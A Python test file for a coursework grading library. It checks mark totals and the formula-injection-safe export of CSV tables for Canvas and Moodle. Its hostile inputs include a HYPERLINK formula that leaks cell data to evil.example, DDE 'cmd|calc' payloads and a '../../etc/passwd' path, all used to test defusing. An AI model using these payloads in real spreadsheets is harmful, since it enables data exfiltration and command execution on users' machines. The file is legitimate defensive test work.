"""`course_lib.coursework.marks`: every submission has its points, and no table does harm."""

from __future__ import annotations

import csv
import io
import math
import os
import re
import stat
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from course_lib import files
from course_lib.coursework.ledger import Ledger, Mark, Result
from course_lib.coursework.marks import counted, marks, read_table, total
from course_lib.coursework.tables import defused, write_table
from course_lib.questions import PARTS, TASKS

TASK = TASKS["task-2"]
IN_TASK = [part for question in TASK for part in question.parts]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2, "click")_11',
    '"O\'Brien", "x"_12',
    "a\nsecond line_13",
    "🎓 Ünïcode_14",
    "<script>alert(1)</script>_15",
    "＝1+1_16",
    '"; =1+1;_17',
    "../../etc/passwd_18",
    "\u202egpj.exe_19",
]


def grade(
    folder: Path,
    student: str,
    *,
    points: float = 1.0,
    marked: bool = True,
    status: str = "graded",
    note: str = "",
) -> int:
    """Enter a submission: `points` is the share of every automatic part's points."""
    ledger = Ledger(folder)
    ledger.note_about("task", "task-2")
    number = ledger.add_submission(student, f"{student}.ipynb", f"digest of {student}", status, note, [])
    if status == "graded":
        found = [Result(number, p.id, points * p.points, (), (), "key", 0.1) for p in IN_TASK if p.automatic]
        ledger.write_results(number, found, {}, "graded")
        for part in IN_TASK:
            if marked and not part.automatic:
                ledger.write_mark(Mark(number, part.id, tuple(range(len(part.rubric))), ""))
    ledger.close()
    return number


def rows_of(path: Path) -> list[dict[str, str]]:
    """Read a table as a spreadsheet does, numbers apart from text."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# Totals -----------------------------------------------------------------------------------------------------


def test_a_total_is_what_the_grader_and_a_person_gave(tmp_path):
    number = grade(tmp_path, "Ada", points=0.5, marked=False)
    ledger = Ledger(tmp_path)
    ledger.write_mark(Mark(number, "words-2-5", (0, 2), "almost"))
    ledger.write_mark(Mark(number, "words-2-5", (1,), "no, less"))  # the newest counts
    (submission,) = ledger.submissions()
    one = total(ledger, submission)
    ledger.write_mark(Mark(number, "words-2-6", None, "a comment alone"))
    rubric = PARTS["words-2-5"].rubric
    assert one.points["words-2-5"] == rubric[1].points
    assert one.points["answer-2-2"] == PARTS["answer-2-2"].points / 2
    assert one.points["words-2-1"] is None
    assert one.missing == ("words-2-1", "plot-2-3", "words-2-6", "plot-2-8")
    automatic = sum(part.points for part in IN_TASK if part.automatic)
    assert one.total == pytest.approx(automatic / 2 + rubric[1].points)
    for part in IN_TASK:
        if not part.automatic:
            ledger.write_mark(Mark(number, part.id, tuple(range(len(part.rubric))), ""))
    one = total(ledger, submission)
    assert not one.missing and one.total == automatic / 2 + 3 == 9
    assert [one.of(question) for question in TASK][:2] == [0.25 + 0.5, 1.5]


def test_full_marks_are_the_points_of_the_task(tmp_path):
    grade(tmp_path, "Ada")
    ledger = Ledger(tmp_path)
    assert total(ledger, ledger.submissions()[0]).total == sum(question.points for question in TASK) == 15


def test_what_the_grader_found_on_a_picture_is_no_mark(tmp_path):
    number = grade(tmp_path, "Ada", marked=False)
    ledger = Ledger(tmp_path)
    ledger.write_results(number, [Result(number, "plot-2-3", 0, ("no picture",), (), "key", 0)], {}, "graded")
    assert total(ledger, ledger.submissions()[0]).points["plot-2-3"] is None


@pytest.mark.parametrize("status", ["waiting", "failed"])
def test_results_of_an_earlier_run_do_not_count_until_the_next_is_done(tmp_path, status):
    number = grade(tmp_path, "Ada")
    ledger = Ledger(tmp_path)
    ledger.set_status(number, status, "")
    one = total(ledger, ledger.submissions()[0])
    assert one.points["answer-2-2"] is None and one.points["words-2-1"] == 0.5


@pytest.mark.parametrize("points", [math.inf, -math.inf, 3.5, -0.5])
def test_impossible_points_are_refused(tmp_path, points):
    number = grade(tmp_path, "=Eve\n")
    ledger = Ledger(tmp_path)
    ledger.write_results(number, [Result(number, "answer-2-2", points, (), (), "key", 0)], {}, "graded")
    words = f"=Eve\\n has {points} points in answer-2-2, which gives 0 to 3"
    with pytest.raises(ValueError, match=re.escape(words)):
        marks(tmp_path)
    assert not (tmp_path / "marks.csv").exists()


def test_nan_is_refused(tmp_path, monkeypatch):
    grade(tmp_path, "Eve")
    found = Ledger.results
    nan = lambda ledger, number: {  # noqa: E731  (SQLite has none, so it is put between)
        part: Result(**{**vars(one), "points": math.nan}) for part, one in found(ledger, number).items()
    }
    monkeypatch.setattr(Ledger, "results", nan)
    with pytest.raises(ValueError, match="Eve has nan points in answer-2-1"):
        marks(tmp_path)


@pytest.mark.parametrize("item", [-1, 4, 10**9])
def test_a_rubric_item_that_does_not_exist_is_refused(tmp_path, item):
    number = grade(tmp_path, "Ada")
    Ledger(tmp_path).write_mark(Mark(number, "words-2-5", (0, item), ""))
    with pytest.raises(ValueError, match=f"Ada was marked with item {item} of words-2-5, whose rubric has 4"):
        marks(tmp_path)


def test_a_rubric_item_counts_once(tmp_path):
    number = grade(tmp_path, "Ada")
    ledger = Ledger(tmp_path)
    ledger.write_mark(Mark(number, "words-2-5", (0, 0, 0), ""))
    assert total(ledger, ledger.submissions()[0]).points["words-2-5"] == PARTS["words-2-5"].rubric[0].points


def test_the_submission_that_counts(tmp_path):
    for source, status in [("old", "superseded"), ("good", "graded"), ("broken", "refused")]:
        ledger = Ledger(tmp_path)
        ledger.add_submission("Ada", source, source, status, "", [])
    ledger.add_submission("Bob", "only", "only", "refused", "no JSON", [])
    assert {student: one.source for student, one in counted(ledger).items()} == {"Ada": "good", "Bob": "only"}


# The table of our own ---------------------------------------------------------------------------------------


def test_every_submission_is_in_the_table_with_its_parts_questions_and_total(tmp_path, capsys):
    for student in HOSTILE:
        grade(tmp_path, student, points=0.5)
    grade(tmp_path, "unmarked", marked=False)
    grade(tmp_path, "waits", status="waiting")
    grade(tmp_path, "broken", status="refused", note="=not JSON")
    ledger = Ledger(tmp_path)
    ledger.add_submission(HOSTILE[0], "an earlier one", "x", "superseded", "", [])
    assert marks(tmp_path) == ()
    rows = rows_of(tmp_path / "marks.csv")
    names = [row["student"] for row in rows]
    assert sorted(names) == sorted(map(str, map(defused, [*HOSTILE, "unmarked", "waits", "broken"])))
    by_name = {row["student"].removeprefix("'"): row for row in rows}
    half = by_name[HOSTILE[0]]
    assert half["others (not counted)"] == "an earlier one (superseded)"
    assert half["answer-2-2"] == "1.5" and half["2.2"] == "1.5" and half["2.1"] == "0.75"
    assert float(half["total"]) == sum(float(half[part.id]) for part in IN_TASK)
    assert float(half["total"]) == sum(float(half[question.id]) for question in TASK)
    assert half["of"] == "15" and half["not judged yet"] == ""
    assert by_name["unmarked"]["not judged yet"] == "words-2-1 plot-2-3 words-2-5 words-2-6 plot-2-8"
    assert by_name["unmarked"]["words-2-1"] == ""  # not 0
    assert by_name["broken"]["total"] == "0" and by_name["broken"]["note"] == "'=not JSON"
    assert by_name["broken"]["status"] == "refused" and by_name["broken"]["answer-2-2"] == ""
    said = capsys.readouterr().out
    assert "provisional: 3 totals" in said and "refused, for you to decide: broken: =not JSON" in said
    assert "\x1b" not in said and "\u202e" not in said


def test_no_cell_is_taken_for_a_formula_by_the_rules_of_owasp(tmp_path):
    for student in HOSTILE:
        grade(tmp_path, student)
    marks(tmp_path)
    content = (tmp_path / "marks.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")  # for Excel
    for delimiter in ",;\t":  # whatever a spreadsheet takes for the separator
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter):
            for cell in row:
                assert cell.startswith("'") or cell.strip(" \"'")[:1] not in tuple("=+-@＝\t\r")


@pytest.mark.parametrize(
    "cell",
    [
        *(
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\0=1",
            " =1",
            '"=1',
            "' =1",
            "'=1",
            "\u00a0=1",
        ),
        *(
            "\u200b=1",
            "\ufeff=1",
            "＝1",
            "＋1",
            "－1",
            "＠A1",
            "﹦1",
            "“=1”",
            "-1+cmd|' /C calc'!A0",
            "\tplain",
        ),
    ],
)
def test_formulas_are_defused(cell):
    safe = str(defused(cell))
    assert safe.startswith("'") and safe.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", ["", "-", "Ada", "a=b", "3-4", "a, -b", "'quoted'", "O'Brien", -1.5, -3, 0])
def test_what_is_no_formula_stays(cell):
    assert defused(cell) == cell and type(defused(cell)) is type(cell)


@given(st.text(st.sampled_from("=+-@＝\t\r\n;,\"' a1\0\u200b")))
def test_no_piece_of_a_defused_cell_starts_like_a_formula(cell):
    result = str(defused(cell))
    assert result.replace("'", "") == cell.replace("'", "") and result[:1] not in tuple("\t\r\n\0")
    for piece in re.split("[;\t\r\n\0]", result):
        assert result == "-" or piece.strip(' "\u200b')[:1] not in tuple("=+-@＝")


@given(st.lists(st.lists(st.text(), min_size=1, max_size=3), min_size=1, max_size=3))
def test_a_table_reads_back_as_it_was_written(rows):
    with tempfile.TemporaryDirectory() as folder:
        table = Path(folder) / "table.csv"
        write_table(table, rows, for_excel=False)
        read = csv.reader(io.StringIO(table.read_bytes().decode(), newline=""))
    assert list(read) == [[defused(cell) for cell in row] for row in rows]


def test_numbers_stay_numbers(tmp_path):
    write_table(tmp_path / "table.csv", [["-1.5", -1.5, 2]], for_excel=False)
    assert (tmp_path / "table.csv").read_bytes() == b'"\'-1.5",-1.5,2\r\n'


def test_a_table_is_replaced_as_a_whole_or_not_at_all(tmp_path, monkeypatch):
    grade(tmp_path, "Ada")
    marks(tmp_path)
    before = (tmp_path / "marks.csv").read_bytes()
    assert stat.S_IMODE((tmp_path / "marks.csv").stat().st_mode) == 0o600
    grade(tmp_path, "Bob")
    there = set(os.listdir(tmp_path))
    monkeypatch.setattr(files.os, "replace", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):
        marks(tmp_path)
    assert (tmp_path / "marks.csv").read_bytes() == before and set(os.listdir(tmp_path)) == there


def test_a_folder_without_a_grading_stays_empty(tmp_path):
    with pytest.raises(FileNotFoundError, match=r"there is no grading in .*: `course grade` makes one"):
        marks(tmp_path)
    assert os.listdir(tmp_path) == []


# Canvas -----------------------------------------------------------------------------------------------------

GRADEBOOK = '''\
Student,ID,SIS User ID,SIS Login ID,Section,Task 1 (501),Task 2 (502),Assignments Current Score,Final Score
,,,,,,Manual Posting,,
    Points Possible,,,,,12.00,15.00,(read only),(read only)
"=""=cmd|calc""",11,u11,=login11,S1,7.50,1.00,70,60
"Lovelace, Ada",12,u12,l12,"S1 and S2",12.00,,100,50
"Turing, Alan",13,u13,l13,S1,,9.00,,
"Hopper, Grace",14,u14,l14,S1,5.00,EX,,
"Student, Test",99,,,S1,,,,
'''


@pytest.fixture
def gradebook(tmp_path) -> Path:
    path = tmp_path / "gradebook.csv"
    path.write_text(GRADEBOOK, encoding="utf-8")
    return path


def test_canvas_gets_its_gradebook_back_with_one_assignment_filled_in(tmp_path, gradebook, capsys):
    out = tmp_path / "graded"
    grade(out, "cmd_11", points=0.5)
    grade(out, "lovelaceada_12")
    grade(out, "hoppergrace_14")
    grade(out, "stranger_77")
    grade(out, "no number")
    assert marks(out, "canvas", gradebook=gradebook, column="Task 2") == ("no number", "stranger_77")
    content = (out / "marks-canvas.csv").read_bytes().decode("utf-8")
    assert list(csv.reader(io.StringIO(content, newline=""))) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Task 2 (502)"],
        ["", "", "", "", "", "Manual Posting"],
        ["    Points Possible", "", "", "", "", "15.00"],
        ['\'="=cmd|calc"', "11", "u11", "'=login11", "S1", "9"],
        ["Lovelace, Ada", "12", "u12", "l12", "S1 and S2", "15"],
    ]
    said = capsys.readouterr().out
    assert "no row of its own in the gradebook: stranger_77, 15 points" in said
    assert "excused in Canvas, left out: hoppergrace_14" in said
    assert "without a submission: 2 of 5 in the gradebook" in said


@pytest.mark.parametrize("column", ["Task 3", "", "Final Score"])
def test_an_assignment_that_canvas_does_not_have_is_named(tmp_path, gradebook, column):
    grade(tmp_path / "graded", "lovelaceada_12")
    with pytest.raises(ValueError, match=re.escape("which has Task 1 (501); Task 2 (502)")):
        marks(tmp_path / "graded", "canvas", gradebook=gradebook, column=column)


def test_an_assignment_with_other_points_is_refused(tmp_path, gradebook):
    grade(tmp_path / "graded", "lovelaceada_12")
    with pytest.raises(ValueError, match=r"Canvas gives Task 1 \(501\) 12.00 points, and the task has 15"):
        marks(tmp_path / "graded", "canvas", gradebook=gradebook, column="Task 1 (501)")


def test_two_submissions_for_one_row_fill_none(tmp_path, gradebook, capsys):
    out = tmp_path / "graded"
    grade(out, "lovelaceada_12")
    grade(out, "mallory 12_12", points=0)
    assert marks(out, "canvas", gradebook=gradebook, column="Task 2") == ("lovelaceada_12", "mallory 12_12")
    assert len(rows_of(out / "marks-canvas.csv")) == 2  # manual posting, points possible
    assert "no row of its own in the gradebook: lovelaceada_12" in capsys.readouterr().out


def test_a_number_within_a_name_is_nobodys(tmp_path, gradebook):
    out = tmp_path / "graded"
    grade(out, "mallory_12_13", points=0)
    grade(out, "lovelaceada_12")
    assert marks(out, "canvas", gradebook=gradebook, column="Task 2") == ()
    assert [row["Task 2 (502)"] for row in rows_of(out / "marks-canvas.csv")[2:]] == ["15", "3"]


def test_provisional_totals_are_exported_only_on_demand(tmp_path, gradebook):
    out = tmp_path / "graded"
    grade(out, "lovelaceada_12", marked=False)
    grade(out, "turing_13")
    with pytest.raises(ValueError, match=r"1 of 2 totals are provisional.*a_12 \(words-2-1, .*--provisional"):
        marks(out, "canvas", gradebook=gradebook, column="Task 2")
    assert not (out / "marks-canvas.csv").exists()
    marks(out, "canvas", gradebook=gradebook, column="Task 2", provisional=True)
    assert [row["Task 2 (502)"] for row in rows_of(out / "marks-canvas.csv")[2:]] == ["12", "15"]


def test_semicolons_and_a_byte_order_mark_are_read(tmp_path):
    path = tmp_path / "gradebook.csv"
    text = GRADEBOOK.replace(",", ";").replace("15.00", '"15,00"').replace("Lovelace; Ada", "Lovelace, Ada")
    path.write_text(text, encoding="utf-8-sig")
    grade(tmp_path / "graded", "lovelaceada_12")
    marks(tmp_path / "graded", "canvas", gradebook=path, column="Task 2")
    content = (tmp_path / "graded" / "marks-canvas.csv").read_text(encoding="utf-8")
    assert content.startswith('"Student","ID"') and '"Lovelace, Ada","12"' in content


@pytest.mark.parametrize(
    "content, words",
    [(b"", "is empty"), (b"\xff\xfe\0\0", "is not UTF-8"), (b"a,b\n1,2\n", "no ID and Section, but a, b")],
)
def test_what_is_no_gradebook_is_refused(tmp_path, content, words):
    (tmp_path / "gradebook.csv").write_bytes(content)
    grade(tmp_path / "graded", "lovelaceada_12")
    with pytest.raises(ValueError, match=words):
        marks(tmp_path / "graded", "canvas", gradebook=tmp_path / "gradebook.csv")


def test_without_a_gradebook_it_says_where_to_get_one(tmp_path):
    grade(tmp_path, "lovelaceada_12")
    with pytest.raises(ValueError, match="moodle needs the file to fill in, from Moodle, the assignment"):
        marks(tmp_path, "moodle")


# Moodle -----------------------------------------------------------------------------------------------------

WORKSHEET = """\
Identifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",\
"Last modified (submission)","Online text","Last modified (grade)","Feedback comments"
"Participant 11","=cmd|calc",a@x.org,"Submitted for grading",,15.00,Yes,"Monday, 2 November 2026","=1+1",-,
"Participant 12","Ada ""the first"" Lovelace",b@x.org,"Submitted for grading",3.00,15.00,Yes,-,,-,<p>ok</p>
"Participant 13","Alan Turing",c@x.org,"No submission",2.50,15.00,Yes,-,,"Sunday, 1 November 2026",- good
"""


@pytest.fixture
def worksheet(tmp_path) -> Path:
    path = tmp_path / "worksheet.csv"
    path.write_text(WORKSHEET, encoding="utf-8")
    return path


def test_moodle_gets_its_worksheet_back_with_grades(tmp_path, worksheet, capsys):
    out = tmp_path / "graded"
    grade(out, "cmd calc_11", points=0.5)
    grade(out, "Participant_12", status="refused", note="no JSON")
    grade(out, "somebody_7")
    with pytest.raises(ValueError, match="provisional"):  # nobody has decided that a refused one is worth 0
        marks(out, "moodle", gradebook=worksheet)
    assert marks(out, "moodle", gradebook=worksheet, provisional=True) == ("somebody_7",)
    content = (out / "marks-moodle.csv").read_text(encoding="utf-8")
    first, *rows = csv.reader(io.StringIO(content, newline=""))
    assert (
        first == next(csv.reader(WORKSHEET.splitlines()))[:-1]
    )  # without the feedback, which Moodle would overwrite
    assert [(row[0], row[4], row[-1]) for row in rows] == [
        ("Participant 11", "9", "-"),
        ("Participant 12", "0", "-"),
        ("Participant 13", "2.50", "Sunday, 1 November 2026"),
    ]
    assert rows[0][1] == "'=cmd|calc" and rows[0][8] == "'=1+1" and rows[1][1] == 'Ada "the first" Lovelace'
    said = capsys.readouterr().out
    assert "refused, for you to decide: Participant_12: no JSON" in said
    assert "without a submission: 1 of 3 in the worksheet" in said


def test_a_worksheet_in_another_language_needs_the_name_of_its_grades(tmp_path, worksheet):
    german = WORKSHEET.replace("Identifier", "ID").replace("Participant ", "Teilnehmer/in")
    german = german.replace("Grade,", "Bewertung,").replace("(grade)", "(Bewertung)")
    worksheet.write_text(german, encoding="utf-8")
    grade(tmp_path / "graded", "Ada_12")
    with pytest.raises(ValueError, match="one named 'Grade', and its first line is ID, Full name"):
        marks(tmp_path / "graded", "moodle", gradebook=worksheet)
    marks(tmp_path / "graded", "moodle", gradebook=worksheet, column="Bewertung")
    rows = rows_of(tmp_path / "graded" / "marks-moodle.csv")
    assert [row["Bewertung"] for row in rows] == ["", "15", "2.50"]


def test_another_maximum_in_moodle_is_refused(tmp_path, worksheet):
    worksheet.write_text(WORKSHEET.replace("15.00", "100.00"), encoding="utf-8")
    grade(tmp_path / "graded", "Ada_12")
    with pytest.raises(ValueError, match=r"the assignment 100.00 points, and the task has 15: set 15 there"):
        marks(tmp_path / "graded", "moodle", gradebook=worksheet)


def test_what_a_student_wrote_online_may_be_long(tmp_path, worksheet):
    worksheet.write_text(WORKSHEET.replace("=1+1", "=" + "x" * 1_000_000), encoding="utf-8")
    grade(tmp_path / "graded", "Ada_12")
    before = csv.field_size_limit()
    marks(tmp_path / "graded", "moodle", gradebook=worksheet)
    assert csv.field_size_limit() == before


def test_a_cell_with_line_ends_and_odd_characters_is_read_as_one(tmp_path):
    path = tmp_path / "table.csv"
    path.write_bytes('a,b\r\n"1\r\n2\u2028\x0c3",4\x0c5\r\n6\r\n'.encode())
    assert read_table(path) == [["a", "b"], ["1\r\n2\u2028\x0c3", "4\x0c5"], ["6", ""]]
